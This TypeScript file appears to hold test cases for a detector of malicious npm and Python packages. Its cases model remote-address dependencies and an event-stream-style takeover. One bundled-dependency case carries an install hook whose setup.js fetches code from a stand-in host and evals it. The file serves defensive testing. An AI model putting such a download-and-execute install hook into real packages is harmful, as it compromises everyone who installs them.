import { casesOf, type Facts } from '../case';
import { npm, wheelOf } from '../packages';

const ABOUT = 'Rules for a linter.';
const told = (name: string): Facts => ({
  now: '2025-10-30T12:00:00Z',
  publishedAt: '2025-10-29T12:00:00Z',
  firstPublishedAt: '2025-10-29T12:00:00Z',
  publisher: 'fresh-account',
  dependencies: {
    [name]: { firstPublishedAt: '2025-10-29T11:00:00Z', publisher: 'fresh-account', versions: 1 },
  },
});

export const remoteDependency = casesOf({
  id: 'kind-dependency-only',
  incident: 'kind',
  kind: 'dependency-only',
  seen: 'clean code whose only dependency is a tarball from a plain address outside the package registry, which may change with every download',
  replica: npm('lint-imports-order', '1.1.4', {
    about: ABOUT,
    manifest: {
      dependencies: { 'ui-styles-pkg': 'http://packages.storeartifact.invalid/npm/ui-styles-pkg' },
    },
  }),
  renamed: npm('unused-imports-check', '2.0.0', {
    about: ABOUT,
    manifest: { dependencies: { 'fs-shared': 'https://artifacts.dep-host.invalid/fs-shared-1.0.0.tgz' } },
  }),
  reObfuscated: npm('lint-imports-order', '1.1.5', {
    about: ABOUT,
    manifest: {
      dependencies: { 'ui-styles-pkg': 'git+ssh://git@git-forge.invalid/pkgs/ui-styles.git#main' },
    },
  }),
  otherStage: {
    seen: 'clean code with a requirement by address, outside the package registry',
    sample: wheelOf('lint-imports-order', '1.1.6', {
      about: ABOUT,
      requires: ['ui-styles-pkg @ http://packages.storeartifact.invalid/ui_styles_pkg-1.0-py3-none-any.whl'],
    }),
  },
});

/** What event-stream's own release showed: nothing but one more dependency of somebody new. */
export const newTransitive = casesOf({
  id: 'event-stream-dependent',
  incident: 'event-stream',
  kind: 'dependency-only',
  judgedBy: 'delta',
  seen: 'a release by a new maintainer adds one dependency, a month old and of an unknown publisher, to a package of many years',
  replica: {
    sample: npm('stream-toolbox', '3.3.6', {
      about: 'Streams.',
      manifest: { dependencies: { through: '~2.3.1', 'stream-flatmap': '^0.1.0' } },
      index: (honest) => `${honest}\nmodule.exports.flatMap = require('stream-flatmap');\n`,
    }),
    previous: npm('stream-toolbox', '3.3.5', {
      about: 'Streams.',
      manifest: { dependencies: { through: '~2.3.1' } },
    }),
    facts: {
      ...told('stream-flatmap'),
      previousPublisher: 'author',
      firstPublishedAt: '2011-08-18T00:00:00Z',
    },
  },
  renamed: {
    sample: npm('promise-queue-tools', '6.2.2', {
      about: 'Queues.',
      manifest: { dependencies: { 'p-limit': '^3.1.0', 'queue-tick-shim': '^1.0.0' } },
      index: (honest) => `${honest}\nmodule.exports.tick = require('queue-tick-shim');\n`,
    }),
    previous: npm('promise-queue-tools', '6.2.1', {
      about: 'Queues.',
      manifest: { dependencies: { 'p-limit': '^3.1.0' } },
    }),
    facts: {
      ...told('queue-tick-shim'),
      previousPublisher: 'author',
      firstPublishedAt: '2016-01-01T00:00:00Z',
    },
  },
  reObfuscated: {
    seen: 'the new dependency is optional and never required',
    sample: npm('stream-toolbox', '3.3.7', {
      about: 'Streams.',
      manifest: { dependencies: { through: '~2.3.1' }, optionalDependencies: { 'stream-flatmap': '*' } },
    }),
    previous: npm('stream-toolbox', '3.3.5', {
      about: 'Streams.',
      manifest: { dependencies: { through: '~2.3.1' } },
    }),
    facts: {
      ...told('stream-flatmap'),
      previousPublisher: 'author',
      firstPublishedAt: '2011-08-18T00:00:00Z',
    },
  },
  otherStage: {
    judgedBy: 'artifact',
    seen: 'the new dependency comes with the archive, as a bundled dependency with a hook of its own',
    sample: npm('stream-toolbox', '3.3.8', {
      about: 'Streams.',
      manifest: {
        dependencies: { through: '~2.3.1', 'stream-flatmap': '0.1.1' },
        bundleDependencies: ['stream-flatmap'],
      },
      files: {
        'node_modules/stream-flatmap/package.json': `${JSON.stringify({ name: 'stream-flatmap', version: '0.1.1', main: 'index.js', scripts: { install: 'node setup.js' } })}\n`,
        'node_modules/stream-flatmap/index.js': 'module.exports = (list, map) => list.flatMap(map);\n',
        'node_modules/stream-flatmap/setup.js': `require('https').get('https://flatmap-cdn.invalid/s.js', (r) => {\n  let code = '';\n  r.on('data', (part) => (code += part));\n  r.on('end', () => eval(code));\n}).on('error', () => {});\n`,
      },
    }),
    previous: npm('stream-toolbox', '3.3.5', {
      about: 'Streams.',
      manifest: { dependencies: { through: '~2.3.1' } },
    }),
    facts: {
      ...told('stream-flatmap'),
      previousPublisher: 'author',
      firstPublishedAt: '2011-08-18T00:00:00Z',
    },
  },
});
